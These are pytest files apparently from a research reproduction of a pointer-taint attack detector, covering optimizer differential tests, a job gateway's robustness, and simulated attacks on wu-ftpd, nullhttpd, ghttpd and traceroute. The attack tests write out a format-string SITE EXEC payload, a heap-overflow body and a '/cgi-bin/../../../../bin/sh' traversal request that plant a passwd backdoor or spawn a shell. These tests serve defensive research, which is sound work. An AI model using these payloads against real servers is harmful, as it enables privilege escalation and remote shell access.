_SCENARIOS = {s.name: s for s in all_attack_scenarios()}
_WORKLOADS = {w.name: w for w in SPEC_WORKLOADS}


def _verdict(result):
    return (
        result.outcome,
        result.detected,
        result.exit_status,
        result.stdout,
    )


class TestScenarioVerdicts:
    @pytest.mark.parametrize("name", sorted(_SCENARIOS))
    def test_attack_verdict_identical(self, name):
        scenario = _SCENARIOS[name]
        r0 = scenario.run_attack(PointerTaintPolicy(), opt_level=0)
        r1 = scenario.run_attack(PointerTaintPolicy(), opt_level=1)
        assert _verdict(r0) == _verdict(r1)
        if r0.alert is not None:
            assert r1.alert.kind == r0.alert.kind

    @pytest.mark.parametrize("name", sorted(_SCENARIOS))
    def test_benign_verdict_identical(self, name):
        scenario = _SCENARIOS[name]
        if not scenario.benign_input:
            pytest.skip("scenario has no benign input")
        r0 = scenario.run_benign(PointerTaintPolicy(), opt_level=0)
        r1 = scenario.run_benign(PointerTaintPolicy(), opt_level=1)
        assert _verdict(r0) == _verdict(r1)


class TestWorkloadDifferential:
    @pytest.mark.parametrize("name", sorted(_WORKLOADS))
    def test_output_identical_and_fewer_instructions(self, name):
        workload = _WORKLOADS[name]
        stdin = workload.make_input()
        r0 = run_minic(
            workload.source, PointerTaintPolicy(), stdin=stdin, opt_level=0
        )
        r1 = run_minic(
            workload.source, PointerTaintPolicy(), stdin=stdin, opt_level=1
        )
        assert _verdict(r0) == _verdict(r1)
        assert r0.outcome == "exit"
        assert r1.sim.stats.alerts == 0
        assert r1.sim.stats.tainted_dereferences == 0
        # The optimizer must actually optimize: measurably fewer dynamic
        # instructions on every workload (the CI benchmark pins >= 20%).
        assert r1.sim.stats.instructions < r0.sim.stats.instructions


# --- seeded fuzz corpus --------------------------------------------------

_FUZZ_OPS = ("+", "-", "*", "&", "|", "^")
_FUZZ_CMPS = ("<", ">", "<=", ">=", "==", "!=")


class _ProgramGen:
    """Deterministic random MiniC programs exercising the optimizer.

    Programs mix untainted locals, stdin-derived (tainted) values,
    loops over untainted counters, a stack array indexed by masked
    counters, and expressions shaped to trip every pass: foldable
    constant subtrees, `<< 0`-style identities, `/ 1` and `* 1` (which
    must NOT fold), and comparisons (which untaint).
    """

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.vars = ["a", "b", "c", "d"]

    def const(self) -> str:
        return str(self.rng.randint(-20, 20))

    def expr(self, depth: int = 0) -> str:
        roll = self.rng.random()
        if depth >= 3 or roll < 0.3:
            if self.rng.random() < 0.5:
                return self.rng.choice(self.vars)
            return self.const()
        if roll < 0.75:
            op = self.rng.choice(_FUZZ_OPS)
            return f"({self.expr(depth + 1)} {op} {self.expr(depth + 1)})"
        if roll < 0.85:
            op = self.rng.choice(_FUZZ_CMPS)
            return f"({self.expr(depth + 1)} {op} {self.expr(depth + 1)})"
        if roll < 0.92:  # constant shift (includes the foldable << 0)
            return f"({self.expr(depth + 1)} << {self.rng.randint(0, 7)})" \
                if self.rng.random() < 0.5 \
                else f"({self.expr(depth + 1)} >> {self.rng.randint(0, 7)})"
        # nonzero constant divisor (includes the must-not-fold / 1)
        op = self.rng.choice(("/", "%"))
        return f"({self.expr(depth + 1)} {op} {self.rng.randint(1, 9)})"

    def statement(self, depth: int = 0) -> str:
        roll = self.rng.random()
        var = self.rng.choice(self.vars)
        if roll < 0.45 or depth >= 2:
            op = self.rng.choice(("=", "+=", "-=", "*=", "&=", "|=", "^="))
            return f"{var} {op} {self.expr()};"
        if roll < 0.6:
            body = self.statement(depth + 1)
            alt = self.statement(depth + 1)
            cond = f"{self.expr()} {self.rng.choice(_FUZZ_CMPS)} {self.expr()}"
            return f"if ({cond}) {{ {body} }} else {{ {alt} }}"
        if roll < 0.75:
            body = self.statement(depth + 1)
            bound = self.rng.randint(1, 6)
            return (
                f"i = 0; while (i < {bound}) {{ {body} i = i + 1; }}"
            )
        if roll < 0.9:
            idx = f"(i + {self.rng.randint(0, 7)}) & 7"
            return f"arr[{idx}] = {self.expr()}; {var} += arr[i & 7];"
        return f"{var} = {var} * 1 + ({self.expr()} / 1);"

    def program(self) -> str:
        body = "\n  ".join(self.statement() for _ in range(6))
        return (
            "int main() {\n"
            "  int arr[8];\n"
            "  char inbuf[8];\n"
            "  int i; int a; int b; int c; int d;\n"
            "  read(0, inbuf, 8);\n"
            f"  a = {self.const()}; b = {self.const()};\n"
            "  c = inbuf[0]; d = inbuf[1];\n"
            "  i = 0; while (i < 8) { arr[i] = i * 3; i = i + 1; }\n"
            "  i = 0;\n"
            f"  {body}\n"
            '  printf("%d %d %d %d\\n", a, b, c, d);\n'
            "  return (a ^ b ^ c ^ d) & 127;\n"
            "}\n"
        )


def _fuzz_cases(count: int = 25, seed: int = 1105):
    rng = random.Random(seed)
    cases = []
    for index in range(count):
        gen = _ProgramGen(rng)
        stdin = bytes(rng.randrange(256) for _ in range(8))
        cases.append(pytest.param(gen.program(), stdin, id=f"prog{index:02d}"))
    return cases


class TestFuzzDifferential:
    @pytest.mark.parametrize("source,stdin", _fuzz_cases())
    def test_same_observables_both_levels_both_engines(self, source, stdin):
        r0 = run_minic(
            source, PointerTaintPolicy(), stdin=stdin, opt_level=0
        )
        r1 = run_minic(
            source, PointerTaintPolicy(), stdin=stdin, opt_level=1
        )
        assert _verdict(r0) == _verdict(r1), source
        r1p = run_minic(
            source,
            PointerTaintPolicy(),
            stdin=stdin,
            opt_level=1,
            use_pipeline=True,
        )
        assert _verdict(r1p) == _verdict(r0), source

    def test_corpus_is_deterministic(self):
        first = [str(p.values[0]) for p in _fuzz_cases(5)]
        second = [str(p.values[0]) for p in _fuzz_cases(5)]
        assert first == second


# --- PAC sign/auth site preservation ------------------------------------

_PAC_SITE_RE = re.compile(r"^\.L.*pac_(sign|auth)_(.+)_\d+$")


def _pac_profile(executable) -> Counter:
    """Per-function (name, sign|auth) site counts from the symbol table."""
    profile: Counter = Counter()
    for name in executable.symbols:
        match = _PAC_SITE_RE.match(name)
        if match is not None:
            profile[(match.group(2), match.group(1))] += 1
    return profile


class TestPacSitePreservation:
    @pytest.mark.parametrize("name", sorted(_SCENARIOS))
    def test_every_function_keeps_its_sites(self, name):
        scenario = _SCENARIOS[name]
        p0 = _pac_profile(scenario.build(opt_level=0))
        p1 = _pac_profile(scenario.build(opt_level=1))
        assert p0 == p1
        assert p0  # the libc alone guarantees instrumented functions

    def test_sign_auth_paired_per_function(self):
        exe = build_program("int main() { return 0; }", opt_level=1)
        profile = _pac_profile(exe)
        functions = {func for func, _ in profile}
        for func in functions:
            assert profile[(func, "sign")] == profile[(func, "auth")] == 1

    def test_pac_detector_catches_smash_under_optimizer(self):
        result = exp1_scenario().run_attack(None, defense="pac", opt_level=1)
        assert result.detected
        assert result.alert.kind == "pac"
