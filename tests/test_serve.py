"""Gateway robustness: protocol, admission, self-healing, drain, digests.

The contract under test (DESIGN.md section 4g): every job a client
submits gets exactly one terminal structured response -- a unified
result, a watchdog ``limit``, or an error envelope -- no matter what
misbehaves (a crashing worker, an overrunning job, a full queue), the
circuit breaker trips and recovers instead of wedging the pool, a
served campaign digest is byte-identical to the in-process ``Session``
result, and SIGTERM drains to exit 0.
"""

import asyncio
import json
import multiprocessing
import os
import signal
import subprocess
import sys
import time

import pytest

from repro.api import Session, validate_result_json
from repro.parallel.engine import POISON_ENV
from repro.serve import (
    AdmissionQueue,
    BackgroundServer,
    CircuitBreaker,
    PendingJob,
    ProtocolError,
    ServeClient,
    error_envelope,
    job_envelope,
    parse_request,
    validate_request,
)
from repro.serve.protocol import MAX_LINE_BYTES, encode

fork_only = pytest.mark.skipif(
    "fork" not in multiprocessing.get_all_start_methods(),
    reason="crash seam kills fork workers via os._exit",
)

SPIN_ASM = ".text\n_start: b _start\n"

HELLO_C = r"""
int main(void) {
    printf("hi\n");
    return 0;
}
"""


# ---------------------------------------------------------------------------
# protocol (api layer, no sockets)
# ---------------------------------------------------------------------------

class TestProtocol:
    def test_parse_valid_run_request(self):
        req = parse_request(
            json.dumps({"kind": "run", "asm": SPIN_ASM}).encode()
        )
        assert req["kind"] == "run"
        assert req["priority"] == "normal"

    def test_rejects_bad_json(self):
        with pytest.raises(ProtocolError) as exc:
            parse_request(b"{nope")
        assert exc.value.reason == "bad_json"

    def test_rejects_oversized_line(self):
        with pytest.raises(ProtocolError) as exc:
            parse_request(b"x" * (MAX_LINE_BYTES + 1))
        assert exc.value.reason == "too_large"

    def test_rejects_unknown_kind(self):
        with pytest.raises(ProtocolError):
            validate_request({"kind": "frobnicate"})

    def test_rejects_non_object(self):
        with pytest.raises(ProtocolError):
            validate_request([1, 2])

    def test_run_needs_exactly_one_program_form(self):
        with pytest.raises(ProtocolError):
            validate_request({"kind": "run"})
        with pytest.raises(ProtocolError):
            validate_request(
                {"kind": "run", "source": "x", "asm": "y"}
            )

    def test_campaign_needs_exactly_one_workload_form(self):
        with pytest.raises(ProtocolError):
            validate_request({"kind": "campaign"})
        with pytest.raises(ProtocolError):
            validate_request(
                {"kind": "campaign", "source": "x", "builtin": "exp3"}
            )

    def test_rejects_bad_priority_engine_and_budgets(self):
        base = {"kind": "run", "asm": SPIN_ASM}
        for patch in (
            {"priority": "urgent"},
            {"engine": "quantum"},
            {"max_instructions": 0},
            {"deadline_s": 0},
            {"deadline_s": "soon"},
        ):
            with pytest.raises(ProtocolError):
                validate_request(dict(base, **patch))

    def test_matrix_defaults_its_name(self):
        req = validate_request({"kind": "matrix"})
        assert req["name"] == "matrix"
        with pytest.raises(ProtocolError):
            validate_request({"kind": "experiment", "name": "nope"})

    def test_error_envelope_passes_unified_schema(self):
        payload = error_envelope(
            "QueueFull", "full", reason="queue_full",
            job=job_envelope("j1", 3, 1.5, 0.0, 0),
        )
        validated = validate_result_json(payload)
        assert validated["kind"] == "error"
        assert validated["job"]["id"] == "j1"

    def test_encode_is_one_compact_line(self):
        line = encode({"b": 1, "a": 2})
        assert line == b'{"a":2,"b":1}\n'


# ---------------------------------------------------------------------------
# admission queue (scheduler layer, no sockets)
# ---------------------------------------------------------------------------

def _job(seq, priority=1):
    return PendingJob(
        seq=seq, job_id=f"j{seq}", request={}, priority=priority,
        enqueued_at=0.0,
    )


class TestAdmissionQueue:
    def test_accepts_below_capacity(self):
        q = AdmissionQueue(capacity=2)
        assert q.submit(_job(0)) == (True, None)
        assert q.submit(_job(1)) == (True, None)
        assert q.depth == 2

    def test_rejects_when_full_of_equal_priority(self):
        q = AdmissionQueue(capacity=1)
        q.submit(_job(0))
        accepted, victim = q.submit(_job(1))
        assert not accepted and victim is None
        assert q.rejected == 1

    def test_sheds_oldest_strictly_lower_priority(self):
        q = AdmissionQueue(capacity=2)
        q.submit(_job(0, priority=0))
        q.submit(_job(1, priority=0))
        accepted, victim = q.submit(_job(2, priority=2))
        assert accepted and victim.seq == 0
        assert q.shed == 1
        # The high-priority arrival dispatches first.
        assert q.pop().seq == 2

    def test_never_sheds_equal_or_higher_priority(self):
        q = AdmissionQueue(capacity=1)
        q.submit(_job(0, priority=2))
        accepted, victim = q.submit(_job(1, priority=1))
        assert not accepted and victim is None

    def test_pop_is_priority_then_fifo(self):
        q = AdmissionQueue(capacity=8)
        for seq, prio in [(0, 1), (1, 2), (2, 1), (3, 2)]:
            q.submit(_job(seq, priority=prio))
        assert [q.pop().seq for _ in range(4)] == [1, 3, 0, 2]
        assert q.pop() is None

    def test_rejects_nonsense_capacity(self):
        with pytest.raises(ValueError):
            AdmissionQueue(capacity=0)

    def test_snapshot_counters(self):
        q = AdmissionQueue(capacity=1)
        q.submit(_job(0))
        q.submit(_job(1))
        snap = q.snapshot()
        assert snap == {
            "depth": 1, "capacity": 1, "accepted": 1, "rejected": 1,
            "shed": 0,
        }


# ---------------------------------------------------------------------------
# circuit breaker (infra layer, no pool)
# ---------------------------------------------------------------------------

class TestCircuitBreaker:
    def test_trips_after_threshold_consecutive_crashes(self):
        breaker = CircuitBreaker(threshold=3, cooldown_s=0.01)
        breaker.record_crash()
        breaker.record_crash()
        assert breaker.state == "closed"
        breaker.record_crash()
        assert breaker.state == "open"
        assert breaker.trips == 1

    def test_success_resets_the_consecutive_count(self):
        breaker = CircuitBreaker(threshold=2, cooldown_s=0.01)
        breaker.record_crash()
        breaker.record_success()
        breaker.record_crash()
        assert breaker.state == "closed"

    def test_half_open_probe_closes_on_success(self):
        breaker = CircuitBreaker(threshold=1, cooldown_s=0.01)
        breaker.record_crash()
        assert breaker.state == "open"
        asyncio.run(breaker.admit())  # waits out the cooldown, goes probing
        assert breaker.state == "half-open"
        breaker.record_success()
        assert breaker.state == "closed"

    def test_half_open_probe_crash_reopens(self):
        breaker = CircuitBreaker(threshold=1, cooldown_s=0.01)
        breaker.record_crash()
        asyncio.run(breaker.admit())
        breaker.record_crash()
        assert breaker.state == "open"
        assert breaker.trips == 2

    def test_rejects_nonsense_threshold(self):
        with pytest.raises(ValueError):
            CircuitBreaker(threshold=0)


# ---------------------------------------------------------------------------
# end to end over loopback
# ---------------------------------------------------------------------------

@pytest.fixture(scope="module")
def gateway():
    with BackgroundServer(workers=1) as bg:
        yield bg
    assert bg.exit_code == 0


@fork_only
class TestServeEndToEnd:
    def client(self, gateway):
        return ServeClient(host=gateway.server.host, port=gateway.server.port)

    def test_health_probe(self, gateway):
        with self.client(gateway) as client:
            health = client.health()
        assert health["status"] == "ok"
        assert health["queue"]["capacity"] == 64
        assert health["workers"]["size"] == 1
        assert health["workers"]["breaker"]["state"] == "closed"
        assert health["uptime_s"] >= 0

    def test_run_job_returns_unified_json_with_job_envelope(self, gateway):
        with self.client(gateway) as client:
            result = client.request(
                {"kind": "run", "source": HELLO_C, "id": "hello"}
            )
        payload = validate_result_json(result)
        assert payload["kind"] == "run"
        assert payload["detected"] is False
        assert payload["stats"]["outcome"] == "exit"
        job = payload["job"]
        assert job["id"] == "hello"
        assert job["retries"] == 0
        assert job["queue_ms"] >= 0 and job["exec_ms"] >= 0

    def test_campaign_digest_matches_in_process_session(self, gateway):
        with self.client(gateway) as client:
            served = client.request(
                {"kind": "campaign", "builtin": "exp3", "seed": 11,
                 "trials": 5}
            )
        local = Session().run_campaign(
            builtin="exp3", seed=11, trials=5
        ).to_json()
        validate_result_json(served)
        assert served["stats"]["digest"] == local["stats"]["digest"]
        assert served["stats"]["counts"] == local["stats"]["counts"]

    def test_repeat_job_hits_the_prepared_machine_cache(self, gateway):
        request = {"kind": "campaign", "builtin": "exp3", "seed": 11,
                   "trials": 5}
        with self.client(gateway) as client:
            first = client.request(dict(request))
            second = client.request(dict(request))
        assert first["stats"]["digest"] == second["stats"]["digest"]

    def test_deadline_overrun_returns_structured_limit(self, gateway):
        with self.client(gateway) as client:
            result = client.request(
                {"kind": "run", "asm": SPIN_ASM, "deadline_s": 0.05}
            )
            # The worker survived the overrun: the next job still runs.
            after = client.request({"kind": "run", "source": HELLO_C})
        payload = validate_result_json(result)
        assert payload["stats"]["outcome"] == "limit"
        assert payload["stats"]["limit"]["reason"] == "wallclock"
        assert after["stats"]["outcome"] == "exit"

    def test_instruction_budget_is_honored(self, gateway):
        with self.client(gateway) as client:
            result = client.request(
                {"kind": "run", "asm": SPIN_ASM, "max_instructions": 500}
            )
        assert result["stats"]["outcome"] == "limit"
        assert result["stats"]["limit"]["reason"] == "instructions"

    def test_job_level_failure_is_an_envelope_not_a_dead_worker(
        self, gateway
    ):
        with self.client(gateway) as client:
            bad = client.request(
                {"kind": "campaign", "builtin": "no-such-workload"}
            )
            after = client.request({"kind": "run", "source": HELLO_C})
        payload = validate_result_json(bad)
        assert payload["kind"] == "error"
        assert payload["reason"] == "job_failed"
        assert payload["error"]["type"] == "KeyError"
        assert after["stats"]["outcome"] == "exit"

    def test_malformed_line_keeps_the_connection_alive(self, gateway):
        with self.client(gateway) as client:
            client._file.write(b"{not json\n")
            client._file.flush()
            err = client.recv()
            assert err["kind"] == "error"
            assert err["reason"] == "bad_json"
            result = client.request({"kind": "run", "source": HELLO_C})
        assert result["stats"]["outcome"] == "exit"

    def test_experiment_job_over_the_wire(self, gateway):
        with self.client(gateway) as client:
            result = client.request(
                {"kind": "experiment", "name": "table4"}
            )
        payload = validate_result_json(result)
        assert payload["kind"] == "experiment"
        assert payload["name"] == "table4"
        assert payload["stats"]["scenarios"] >= 1


# ---------------------------------------------------------------------------
# chaos: poison + deadline + overflow in one session
# ---------------------------------------------------------------------------

@fork_only
class TestChaosInvariants:
    def test_no_accepted_job_lost_breaker_recovers_drain_exits_zero(
        self, monkeypatch
    ):
        """The acceptance-criteria chaos session.

        One server, one worker: job seq 0 is poisoned (kills its worker
        on the first attempt), a spin job overruns its deadline, and a
        burst overflows the 2-deep queue.  Every submission must come
        back with a terminal structured response, the breaker must trip
        and end up closed again, and the drain must exit 0.
        """
        monkeypatch.setenv(POISON_ENV, "0")
        with BackgroundServer(
            workers=1,
            queue_capacity=2,
            max_retries=2,
            backoff_s=0.01,
            breaker_threshold=1,
            breaker_cooldown_s=0.05,
        ) as bg:
            with ServeClient(
                host=bg.server.host, port=bg.server.port
            ) as client:
                ids = []
                # seq 0: crashes its worker once, heals, then completes.
                ids.append(client.submit(
                    {"kind": "campaign", "builtin": "exp3", "seed": 11,
                     "trials": 3, "id": "poisoned"}
                ))
                # seq 1: overruns its wall-clock deadline.
                ids.append(client.submit(
                    {"kind": "run", "asm": SPIN_ASM, "deadline_s": 0.05,
                     "id": "overrun"}
                ))
                # Burst: more than worker + queue can hold.
                for i in range(6):
                    ids.append(client.submit(
                        {"kind": "run", "source": HELLO_C,
                         "id": f"burst-{i}"}
                    ))
                responses = client.collect(ids)
                health = client.health()
            bg.drain(timeout=60)
        assert bg.exit_code == 0

        by_id = {r["job"]["id"]: r for r in responses}
        assert sorted(by_id) == sorted(ids)  # exactly one terminal each
        for response in responses:
            validate_result_json(response)

        poisoned = by_id["poisoned"]
        assert poisoned["kind"] == "campaign"
        assert poisoned["job"]["retries"] >= 1
        local = Session().run_campaign(builtin="exp3", seed=11, trials=3)
        assert poisoned["stats"]["digest"] == local.to_json()["stats"]["digest"]

        overrun = by_id["overrun"]
        assert overrun["stats"]["outcome"] == "limit"
        assert overrun["stats"]["limit"]["reason"] == "wallclock"

        outcomes = {r["kind"] for r in responses}
        rejected = [
            r for r in responses
            if r["kind"] == "error" and r["reason"] == "queue_full"
        ]
        completed = [r for r in responses if r["kind"] != "error"]
        assert rejected, f"burst never overflowed the queue: {outcomes}"
        assert len(completed) + len(rejected) == len(ids)

        assert health["workers"]["crashes"] >= 1
        assert health["workers"]["restarts"] >= 1
        assert health["workers"]["breaker"]["trips"] >= 1
        assert health["workers"]["breaker"]["state"] == "closed"

    def test_shedding_prefers_the_oldest_low_priority_job(self, monkeypatch):
        """A high-priority arrival on a full queue evicts the oldest
        low-priority job, which still gets a terminal ``shed`` envelope."""
        monkeypatch.delenv(POISON_ENV, raising=False)
        with BackgroundServer(workers=1, queue_capacity=2) as bg:
            with ServeClient(
                host=bg.server.host, port=bg.server.port
            ) as client:
                ids = [client.submit(
                    {"kind": "campaign", "builtin": "exp3", "seed": 11,
                     "trials": 3, "priority": "low", "id": f"low-{i}"}
                ) for i in range(4)]
                ids.append(client.submit(
                    {"kind": "run", "source": HELLO_C, "priority": "high",
                     "id": "vip"}
                ))
                responses = client.collect(ids)
        by_id = {r["job"]["id"]: r for r in responses}
        assert by_id["vip"]["kind"] == "run"
        shed = [r for r in responses
                if r["kind"] == "error" and r["reason"] == "shed"]
        assert len(shed) == 1
        assert shed[0]["job"]["id"].startswith("low-")

    def test_poison_exhausting_retries_is_a_terminal_envelope(
        self, monkeypatch
    ):
        """A job that kills every worker it touches ends as a
        ``worker_crash`` envelope, and the pool survives for later jobs."""
        monkeypatch.setenv(POISON_ENV, "0")
        with BackgroundServer(
            workers=1, max_retries=0, backoff_s=0.01,
            breaker_threshold=5,
        ) as bg:
            with ServeClient(
                host=bg.server.host, port=bg.server.port
            ) as client:
                # max_retries=0 means the single (poisoned) attempt is
                # final -- but _maybe_poison only fires on attempt 0, so
                # use a request whose every attempt is attempt 0.
                doomed = client.request(
                    {"kind": "run", "source": HELLO_C, "id": "doomed"}
                )
                monkeypatch.setenv(POISON_ENV, "-1")
                after = client.request(
                    {"kind": "run", "source": HELLO_C, "id": "after"}
                )
        assert doomed["kind"] == "error"
        assert doomed["reason"] == "worker_crash"
        assert doomed["job"]["id"] == "doomed"
        assert after["stats"]["outcome"] == "exit"
        assert bg.exit_code == 0


# ---------------------------------------------------------------------------
# drain lifecycle
# ---------------------------------------------------------------------------

@fork_only
class TestDrain:
    def test_submissions_during_drain_get_draining_envelopes(self):
        with BackgroundServer(workers=1) as bg:
            with ServeClient(
                host=bg.server.host, port=bg.server.port
            ) as client:
                assert client.health()["status"] == "ok"
                # An in-flight job keeps the server alive through the
                # drain window; it must still complete.
                inflight = client.submit(
                    {"kind": "campaign", "builtin": "exp3", "seed": 11,
                     "trials": 25, "id": "inflight"}
                )
                deadline = time.monotonic() + 5
                while time.monotonic() < deadline:
                    probe = client.health()
                    if probe["in_flight"] + probe["queue"]["depth"] >= 1:
                        break
                    time.sleep(0.01)
                bg.server.request_drain()
                deadline = time.monotonic() + 5
                while time.monotonic() < deadline:
                    if client.health()["status"] == "draining":
                        break
                    time.sleep(0.01)
                response = client.request(
                    {"kind": "run", "source": HELLO_C, "id": "late"}
                )
                result = client.wait(inflight)
            assert response["kind"] == "error"
            assert response["reason"] == "draining"
            assert response["job"]["id"] == "late"
            assert result["kind"] == "campaign"
        assert bg.exit_code == 0

    def test_sigterm_finishes_in_flight_jobs_and_exits_zero(self, tmp_path):
        """The CLI server drains on SIGTERM: the in-flight job still gets
        its result, and the process exits 0 well inside 10s."""
        env = dict(os.environ, PYTHONPATH="src")
        env.pop(POISON_ENV, None)
        proc = subprocess.Popen(
            [sys.executable, "-m", "repro", "serve", "--port", "0",
             "-j", "1"],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
            env=env, text=True, cwd=os.path.dirname(os.path.dirname(
                os.path.abspath(__file__))),
        )
        try:
            banner = proc.stdout.readline()
            port = int(banner.split("listening on ")[1].split()[0]
                       .rsplit(":", 1)[1])
            with ServeClient(host="127.0.0.1", port=port) as client:
                job_id = client.submit(
                    {"kind": "campaign", "builtin": "exp3", "seed": 11,
                     "trials": 3, "id": "inflight"}
                )
                time.sleep(0.3)  # let the job reach the worker
                started = time.monotonic()
                proc.send_signal(signal.SIGTERM)
                result = client.wait(job_id)
            exit_code = proc.wait(timeout=10)
            drained_in = time.monotonic() - started
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
        assert result["kind"] == "campaign"
        assert result["job"]["id"] == "inflight"
        assert exit_code == 0
        assert drained_in < 10
