"""Section 5.1.2: the four real-world application attacks."""

import pytest

from repro.apps.ghttpd import (
    attack_request,
    ghttpd_scenario,
    request_buffer_address,
)
from repro.apps.nullhttpd import (
    cgi_bin_address,
    nullhttpd_scenario,
    overflow_body,
)
from repro.apps.traceroute import traceroute_scenario
from repro.apps.wuftpd import (
    BACKDOOR_PASSWD_ENTRY,
    site_exec_payload,
    uid_address,
    wuftpd_scenario,
)
from repro.core.policy import ControlDataPolicy, NullPolicy, PointerTaintPolicy


class TestWuFtpd:
    def test_uid_word_at_papers_address(self):
        """Table 2 pins the target at 0x1002bc20."""
        assert uid_address() == 0x1002BC20

    def test_payload_is_papers_site_exec_command(self):
        payload = site_exec_payload()
        assert payload == (
            b"SITE EXEC \x20\xbc\x02\x10" + b"%x" * 6 + b"%n\n"
        )

    def test_detected_at_percent_n_store(self):
        result = wuftpd_scenario().run_attack(PointerTaintPolicy())
        assert result.detected
        assert result.alert.kind == "store"
        assert result.alert.pointer_value == 0x1002BC20

    def test_server_stopped_before_privilege_change(self):
        result = wuftpd_scenario().run_attack(PointerTaintPolicy())
        assert result.kernel is not None
        assert result.kernel.process.events == []  # no setuid, no open

    def test_control_data_baseline_misses(self):
        result = wuftpd_scenario().run_attack(ControlDataPolicy())
        assert not result.detected

    def test_unprotected_attack_plants_backdoor(self):
        scenario = wuftpd_scenario()
        result = scenario.run_attack(NullPolicy())
        assert not result.detected
        uid, taint = result.sim.memory.read(uid_address(), 4)
        assert uid != 1000            # identity word overwritten
        passwd = result.kernel.fs.read_file("/etc/passwd")
        assert BACKDOOR_PASSWD_ENTRY.encode() in passwd
        assert scenario.attack_succeeded(result)

    def test_benign_session_served_and_denied(self):
        result = wuftpd_scenario().run_benign(PointerTaintPolicy())
        assert result.outcome == "exit"
        transcript = bytes(result.clients[0].transcript)
        assert b"220 FTP server" in transcript
        assert b"550 Permission denied" in transcript
        passwd = result.kernel.fs.read_file("/etc/passwd")
        assert b"root:x:0:0" in passwd  # untouched


class TestNullHttpd:
    def test_detected_inside_free(self):
        result = nullhttpd_scenario().run_attack(PointerTaintPolicy())
        assert result.detected
        assert result.alert.kind == "store"
        # The tainted bk points one byte into the CGI-BIN string.
        assert result.alert.pointer_value == cgi_bin_address() + 1

    def test_overflow_body_geometry(self):
        body = overflow_body()
        assert len(body) == 228 + 12
        assert body[228:232] == (0x41414141).to_bytes(4, "little")

    def test_control_data_baseline_misses_and_shell_pops(self):
        result = nullhttpd_scenario().run_attack(ControlDataPolicy())
        assert not result.detected
        assert "/bin/sh" in result.executed_programs

    def test_unprotected_cgi_bin_rewritten(self):
        scenario = nullhttpd_scenario()
        result = scenario.run_attack(NullPolicy())
        cgi = result.sim.memory.read_cstring(cgi_bin_address())
        assert cgi == b"/bin"
        assert result.executed_programs == ["/bin/sh"]
        assert scenario.attack_succeeded(result)

    def test_benign_post_and_cgi_clean(self):
        result = nullhttpd_scenario().run_benign(PointerTaintPolicy())
        assert result.outcome == "exit"
        transcripts = [bytes(c.transcript) for c in result.clients]
        assert b"200 OK posted" in transcripts[0]
        assert b"200 OK static" in transcripts[1]
        # The benign CGI ran from the real CGI root.
        assert result.executed_programs == [
            "/usr/local/httpd/cgi-bin/stats.cgi"
        ]


class TestGhttpd:
    def test_request_buffer_on_the_stack(self):
        address = request_buffer_address()
        assert 0x7FF00000 < address < 0x7FFF8000

    def test_attack_request_shape(self):
        request = attack_request()
        assert request.startswith(b"GET " + b"A" * 196)
        assert b"/cgi-bin/../../../../bin/sh" in request

    def test_detected_at_load_byte(self):
        """The paper: 'stops the attack when the tainted URL pointer is
        dereferenced in a load-byte instruction (LB)'."""
        result = ghttpd_scenario().run_attack(PointerTaintPolicy())
        assert result.detected
        assert result.alert.kind == "load"
        assert "lbu" in result.alert.disassembly
        # The redirected pointer is a stack address (like 0x7fff3e94).
        assert 0x7FF00000 < result.alert.pointer_value < 0x7FFF8000

    def test_control_data_baseline_misses_and_shell_pops(self):
        result = ghttpd_scenario().run_attack(ControlDataPolicy())
        assert not result.detected
        assert any("/bin/sh" in p for p in result.executed_programs)

    def test_unprotected_traversal_reaches_shell(self):
        scenario = ghttpd_scenario()
        result = scenario.run_attack(NullPolicy())
        assert any("/bin/sh" in p for p in result.executed_programs)
        assert scenario.attack_succeeded(result)

    def test_benign_requests_served_and_policy_enforced(self):
        result = ghttpd_scenario().run_benign(PointerTaintPolicy())
        assert result.outcome == "exit"
        ok, forbidden = [bytes(c.transcript) for c in result.clients]
        assert b"200 OK" in ok
        assert b"403 Forbidden" in forbidden   # "/.." rejected when honest


class TestTraceroute:
    def test_detected_at_store_inside_free(self):
        """The paper: 'an alert is generated at a store-word instruction
        inside free() because 0x333231 is a tainted value'."""
        result = traceroute_scenario().run_attack(PointerTaintPolicy())
        assert result.detected
        assert result.alert.kind == "store"
        assert result.alert.taint_mask == 0xF
        # The wild pointer derives from the argv string "123": free() read
        # 0x00333231 as the chunk header, so the footer store lands exactly
        # (0x333230 - 4) bytes past the (heap-resident) chunk base.
        chunk_base = result.alert.pointer_value - (0x00333230 - 4)
        assert 0x10000000 <= chunk_base < 0x10400000

    def test_control_data_baseline_misses(self):
        result = traceroute_scenario().run_attack(ControlDataPolicy())
        assert not result.detected

    def test_unprotected_wild_write_happens(self):
        scenario = traceroute_scenario()
        result = scenario.run_attack(NullPolicy())
        assert not result.detected
        assert result.sim.stats.tainted_dereferences > 0
        assert scenario.attack_succeeded(result)

    def test_single_gateway_is_fine(self):
        result = traceroute_scenario().run_benign(PointerTaintPolicy())
        assert result.outcome == "exit"
        assert "1 gateways parsed" in result.stdout

    def test_non_gateway_arguments_are_fine(self):
        from repro.attacks.replay import run_executable
        from repro.apps.traceroute import build_traceroute

        result = run_executable(
            build_traceroute(),
            PointerTaintPolicy(),
            argv=["traceroute", "example.com"],
        )
        assert result.outcome == "exit"
        assert "0 gateways parsed" in result.stdout
