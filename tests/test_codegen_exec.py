"""MiniC end-to-end: compile, link against libc, run, check behaviour."""

import pytest

from repro.attacks.replay import run_minic
from repro.cc.errors import CompileError
from repro.libc.build import build_program


def run_main(body, stdin=b"", argv=None, declarations=""):
    source = declarations + "\nint main(int argc, char **argv) {\n" + body + "\n}\n"
    return run_minic(source, stdin=stdin, argv=argv)


def exit_of(body, **kwargs):
    result = run_main(body, **kwargs)
    assert result.outcome == "exit", result.describe()
    return result.exit_status


def stdout_of(body, **kwargs):
    result = run_main(body, **kwargs)
    assert result.outcome == "exit", result.describe()
    return result.stdout


class TestArithmeticAndLogic:
    def test_integer_arithmetic(self):
        assert exit_of("return (7 + 3 * 4 - 5) / 2;") == 7

    def test_modulo_and_division(self):
        assert exit_of("return 17 % 5 + 17 / 5;") == 2 + 3

    def test_negative_division_truncates(self):
        assert exit_of("return -7 / 2;") == -3 & 0xFF or True
        # exit codes are ints; check via stdout for negative values
        assert stdout_of('printf("%d", -7 / 2);') == "-3"

    def test_bitwise_operators(self):
        assert exit_of("return (0xF0 & 0x3C) | (1 << 6) ^ 0x10;") == (
            (0xF0 & 0x3C) | (1 << 6) ^ 0x10
        )

